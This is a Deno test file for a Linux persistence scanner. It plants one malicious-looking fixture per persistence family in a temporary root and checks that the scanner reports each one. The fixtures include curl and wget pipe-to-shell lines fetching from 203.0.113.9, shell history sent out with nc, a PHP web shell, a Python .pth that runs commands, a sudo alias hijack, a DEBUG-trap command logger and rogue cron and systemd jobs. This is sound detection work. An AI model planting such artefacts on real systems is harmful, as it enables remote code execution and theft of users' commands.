/**
 * End to end: the sys-scan command line, run on a temporary --root holding one planted artefact per family of
 * event hooks, shell and tools, replaced binaries, web shells, scheduled work and containers (each under a unique
 * name), names every one of them in its JSON report; and the stock roots' inventory shows those families.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { fixtureRoot, makeTree, runOne } from "../helpers.ts";
import { runCli } from "../selftest/run_cli.ts";
import { dpkgOwns, withAccounts } from "./persistence_fixtures.ts";

const EXEC = 0o755;
const URL = "http://203.0.113.9";

/** Unique name → where it is planted; each must appear in a finding of the report. */
const PLANTED: Record<string, Record<string, string | { content: string; mode: number }>> = {
  "e2e-nm-dispatcher": {
    "etc/NetworkManager/dispatcher.d/99-e2e-nm-dispatcher": {
      content: `#!/bin/sh\ncurl -s ${URL}/n | sh\n`,
      mode: EXEC,
    },
  },
  "e2e-ifup": { "etc/network/if-up.d/e2e-ifup": { content: "#!/bin/sh\n/dev/shm/.x/up\n", mode: EXEC } },
  "e2e-logrotate": {
    "etc/logrotate.conf": "include /etc/logrotate.d\n",
    "etc/logrotate.d/e2e-logrotate": "/var/log/e.log {\n  postrotate\n    /tmp/.e2e/lr\n  endscript\n}\n",
  },
  "e2e-udev": { "usr/lib/udev/rules.d/99-e2e-udev.rules": 'ACTION=="add", RUN+="/usr/bin/logger e2e"\n' },
  "e2e-binfmt": { "etc/binfmt.d/e2e-binfmt.conf": ":e2e-binfmt:E::e2e::/tmp/e2e-interp:\n" },
  "e2e-sudo-alias": { "home/bob/.bash_aliases": "alias sudo='/home/bob/.cache/e2e-sudo-alias'\n" },
  "e2e-prompt": {
    "etc/profile.d/e2e-prompt.sh": "PROMPT_COMMAND='history 1 | nc 203.0.113.9 7 # e2e-prompt'\n",
  },
  "e2e-trap": { "root/.bashrc": "trap 'echo $BASH_COMMAND >> /dev/shm/.e2e-trap' DEBUG\n" },
  "e2e-git": { "home/alice/.gitconfig": "[core]\n\tfsmonitor = /tmp/e2e-git\n" },
  "e2e-python": { "usr/local/lib/python3.11/dist-packages/e2e-python.pth": "import os;os.system('id')\n" },
  "e2e-profile": { "etc/profile.d/e2e-profile.sh": `wget -qO- ${URL}/p | sh\n` },
  "e2e-bin": { "usr/bin/e2e-bin": { content: '#!/bin/sh\n/tmp/.real "$@"\n', mode: EXEC } },
  "e2e-webshell": { "var/www/html/e2e-webshell.php": "<?php echo shell_exec($_POST['c']);" },
  "e2e-cron": { "var/spool/cron/crontabs/bob": "@reboot /tmp/e2e-cron\n" },
  "e2e-at": {
    "var/spool/cron/atjobs/a00e2e": {
      content:
        "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || {\n exit 1\n}\ncurl -s http://203.0.113.9/e2e-at | sh\n",
      mode: 0o700,
    },
  },
  "e2e-timer": {
    "etc/systemd/system/e2e-timer.timer": "[Timer]\nOnCalendar=hourly\n",
    "etc/systemd/system/e2e-timer.service": "[Service]\nExecStart=/var/tmp/e2e-timer\n",
  },
  "e2e-container": {
    [`var/lib/docker/containers/${"e".repeat(64)}/config.v2.json`]: JSON.stringify({
      ID: "e".repeat(64),
      Name: "/e2e-container",
      Config: { Image: "alpine" },
    }),
    [`var/lib/docker/containers/${"e".repeat(64)}/hostconfig.json`]: JSON.stringify({
      Privileged: true,
      RestartPolicy: { Name: "always" },
    }),
  },
};

Deno.test("persistence end to end: the CLI names one planted artefact per family under --root", async () => {
  using root = makeTree(withAccounts({
    ...Object.assign({}, ...Object.values(PLANTED)),
    ...dpkgOwns("e2e-tools", ["/usr/bin/e2e-bin"], {
      "/usr/bin/e2e-bin": "00000000000000000000000000000000",
    }),
    ...dpkgOwns("udev", ["/usr/lib/udev/rules.d/50-udev-default.rules"]),
  }));
  const r = await runCli([
    "--root",
    root.path,
    "--enable",
    "persistence",
    "--format",
    "json",
    "--persistence-recent-days",
    "0",
  ]);
  assert.equal(r.code, 0, r.stderr);
  type Finding = { id: string; severity: string; description: string };
  const report = JSON.parse(r.stdout) as { results: { scanner: string; findings: Finding[] }[] };
  const loud = report.results.flatMap((x) => x.findings).filter((f) => f.severity !== "info");
  const missing = Object.keys(PLANTED).filter((name) =>
    !loud.some((f) => f.id.includes(name) || f.description.includes(name))
  );
  assert.deepEqual(missing, [], `not named: ${missing.join(", ")}\n${loud.map((f) => f.id).join("\n")}`);
});

Deno.test("persistence stock roots: their inventory holds the points of every family the distribution ships", async () => {
  const expect: Record<string, string[]> = {
    debian12: [
      "network_hook",
      "logrotate_script",
      "udev_rule",
      "binfmt",
      "python_startup",
      "shell_startup",
      "shell_definition",
      "shell_hook",
      "cron",
      "cron_script",
      "systemd_timer",
    ],
    ubuntu2404: [
      "logrotate_script",
      "udev_rule",
      "binfmt",
      "python_startup",
      "shell_startup",
      "cron",
      "systemd_timer",
    ],
    rhel9: [
      "network_hook",
      "logrotate_script",
      "udev_rule",
      "python_startup",
      "shell_definition",
      "cron",
      "systemd_timer",
    ],
  };
  for (const [name, kinds] of Object.entries(expect)) {
    const r = await runOne(persistence, fixtureRoot(`stock/${name}`), { persistenceInventory: true });
    const found = new Set(r.findings.map((f) => String(f.metadata.kind)));
    assert.deepEqual(kinds.filter((k) => !found.has(k)), [], name);
  }
});
